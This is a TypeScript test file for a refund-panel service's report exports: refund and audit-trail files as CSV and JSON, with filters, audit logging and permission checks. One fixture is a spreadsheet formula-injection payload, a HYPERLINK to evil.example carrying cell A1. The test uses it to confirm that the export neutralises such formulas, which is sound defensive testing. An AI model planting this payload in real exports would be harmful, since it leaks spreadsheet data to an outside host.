/** The files that are handed out: whole, narrowed as asked, page by page, and on the trail. */
import type { Refund, TrailEntry } from '@refund-panel/shared';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { OpenDatabase } from '../src/store/database.js';
import { openTestDatabase } from './database.js';
import { createHarness, type Harness } from './harness.js';
import { readRecords } from './trail-tools.js';

let opened: OpenDatabase;
let harness: Harness;
let orders: string[];
let firstAt: string;
let laterAt: string;
beforeAll(async () => {
  opened = await openTestDatabase();
  harness = await createHarness({ opened });
  orders = [harness.addOrder().prepayId, harness.addOrder().prepayId];
  const [first = '', second = ''] = orders;
  firstAt = harness.clock.now().toISOString();
  const description = '=HYPERLINK("https://evil.example/?"&A1,"Zoë, 小"); +1';
  await harness.refund(first, { refundAmount: '1', refundReason: '@sum', description });
  harness.clock.advance(60_000);
  laterAt = harness.clock.now().toISOString();
  await harness.refund(first, { refundAmount: '2' });
  await harness.refund(second, { refundAmount: '3' });
});
afterAll(async () => {
  await harness.close();
  await opened.close();
});

const exporter = { operator: { id: 'exp' }, permissions: ['refunds:export', 'audit:read'] };

async function get(path: string, claims: object = exporter): Promise<Response> {
  // What is asked for now is not yet included in what was before now.
  harness.clock.advance(1);
  return harness.request(path, { headers: { Authorization: `Bearer ${await harness.mintToken(claims)}` } });
}

async function amounts(query: string): Promise<string[]> {
  const response = await get(`/v1/reports/refunds.json?${query}`);
  expect(response.status).toBe(200);
  return ((await response.json()) as Refund[]).map(({ refundAmount }) => refundAmount);
}

describe('refunds as a file', () => {
  it('are all of them, the oldest first, or those that were asked for', async () => {
    const [first = ''] = orders;
    expect(await amounts('')).toHaveLength(3);
    expect((await amounts('')).at(0)).toBe('1');
    expect(await amounts(`since=${laterAt}`)).toHaveLength(2);
    expect(await amounts(`until=${laterAt}`)).toEqual(['1']);
    expect(await amounts(`since=${firstAt}&until=${firstAt}`)).toEqual([]);
    expect(await amounts(`prepayId=${first}`)).toEqual(['1', '2']);
    expect(await amounts('status=failed')).toEqual([]);
    expect(await amounts('status=succeeded')).toHaveLength(3);
    expect((await get('/v1/reports/refunds.json?status=gone')).status).toBe(422);
    expect((await get('/v1/reports/refunds.json?since=yesterday')).status).toBe(422);
  });

  it('open in a spreadsheet, and carry nothing out there', async () => {
    const response = await get('/v1/reports/refunds.csv');
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="2026-03-01-refunds.csv"');
    expect(response.headers.get('Cache-Control')).toBe('no-store');
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [head = '', line = '', ...others] = new TextDecoder().decode(bytes).split('\r\n');
    expect(head).toMatch(/^refundRequestId,prepayId,merchantTradeNo,createdAt,/);
    expect(line).toContain(`,'@sum,"'=HYPERLINK(""https://evil.example/?""&A1,""Zoë, 小""); '+1",`);
    expect(others.at(-1)).toBe('');
    expect(others).toHaveLength(3);
  });

  it('are one value on each line in JSON, also where there are more than are read at once', async () => {
    await opened.database.execute(sql`
      insert into refunds select (jsonb_populate_record(pattern, jsonb_build_object(
        'refund_request_id', 'many' || n, 'idempotency_key', 'many' || n, 'created_at', timestamptz '2020-01-01' + n / 7 * interval '1 second'))).*
      from refunds as pattern, generate_series(1, 1203) as n where pattern.refund_amount = 1`);
    const text = await (await get('/v1/reports/refunds.json?until=2021-01-01T00:00:00Z')).text();
    const refunds = JSON.parse(text) as Refund[];
    expect(new Set(refunds.map(({ refundRequestId }) => refundRequestId)).size).toBe(1203);
    const times = refunds.map(({ createdAt }) => createdAt);
    expect(times).toEqual([...times].sort());
    expect(text.split('\n')).toHaveLength(1203 + 3);
    await opened.database.execute(sql`delete from refunds where refund_request_id like 'many%'`);
  });

  it('are on the trail before they leave: who took what', async () => {
    const path = `/v1/reports/refunds.csv?since=${firstAt}&status=succeeded`;
    await (await get(path)).text();
    const taken = (await readRecords(opened)).filter(({ action }) => action === 'records.exported').at(-1);
    expect(taken).toMatchObject({
      by: { kind: 'operator', operator: { id: 'exp' } },
      request: { requestId: expect.stringMatching(/.{8}/) },
      after: { file: 'refunds.csv', since: firstAt, until: harness.clock.now().toISOString(), status: 'succeeded' },
    });
  });

  it('are for whoever may, and for no session of certain orders', async () => {
    const path = '/v1/reports/refunds.csv';
    expect((await get(path, { permissions: ['orders:read', 'audit:read'] })).status).toBe(403);
    expect((await get(path, { ...exporter, orders })).status).toBe(403);
    expect((await harness.request(path)).status).toBe(401);
    expect((await harness.request(path, { method: 'HEAD' })).status).toBe(405);
    expect((await harness.request(path, { method: 'POST' })).status).toBe(405);
  });
});

describe('the trail as a file', () => {
  it('is from its first entry to the export itself', async () => {
    const entries = (await (await get('/v1/reports/trail.json')).json()) as TrailEntry[];
    expect(entries.map(({ sequence }) => sequence)).toEqual(entries.map((_, index) => index + 1));
    expect(JSON.parse(entries.at(-1)?.record ?? '')).toMatchObject({ after: { file: 'trail.json' } });
    const csv = await (await get('/v1/reports/trail.csv')).text();
    expect(csv.split('\r\n')[0]).toBe(
      'sequence,at,action,by,operatorId,operatorName,sessionId,requestId,address,refundRequestId,prepayId,note,before,after,restsOn,hash',
    );
    expect(csv).toContain(`,refund.requested,operator,op-1,Ada,`);
  });
});

describe('the document of the API', () => {
  it('names the files, who may have them, and what they are', async () => {
    const response = await harness.request('/openapi.json');
    const { paths } = (await response.json()) as { paths: Record<string, { get: object }> };
    expect(paths['/v1/reports/refunds.csv']?.get).toMatchObject({
      security: [{ session: ['refunds:export'] }],
      responses: { 200: { content: { 'text/csv; charset=utf-8': { schema: { type: 'string' } } } } },
    });
    expect(paths['/v1/reports/trail.json']?.get).toMatchObject({ security: [{ session: ['audit:read'] }] });
  });
});
